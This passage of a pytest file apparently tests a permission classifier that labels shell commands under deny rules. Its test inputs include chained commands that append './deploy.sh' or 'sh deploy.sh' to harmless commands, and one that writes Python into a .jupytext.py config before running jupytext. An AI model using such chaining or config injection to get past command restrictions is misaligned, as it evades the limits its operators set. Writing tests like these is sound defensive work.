    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", EVERYDAY_SWEEP, ids=[str(r[0]) for r in EVERYDAY_SWEEP])
def test_round42_benign47_everyday_sweep(call, expected):
    assert call_letters(_SNAP, call) == expected


UNDER_DENY_RULES = [
    ('jupytext --to py nb.ipynb', 'DDDDD'),
    ('csvtk headers data.csv', 'DDDDD'),
    ('7z x x.7z -obuild', 'DDDDD'),
    ('shopt -s globstar; ./deploy.sh', 'DDDDD'),
    ('bc <<< 1 && sh deploy.sh', 'DDDDD'),
    ("sqlite3 :memory: 'select 1'; ./deploy.sh", 'DDDDD'),
    ('echo "import os" > .jupytext.py; jupytext --to py nb.ipynb', 'DDDDD'),
]


@pytest.mark.parametrize("call,expected", UNDER_DENY_RULES, ids=[str(r[0]) for r in UNDER_DENY_RULES])
def test_round42_benign47_under_deny_rules(call, expected):
    assert call_letters(_DENY, call) == expected
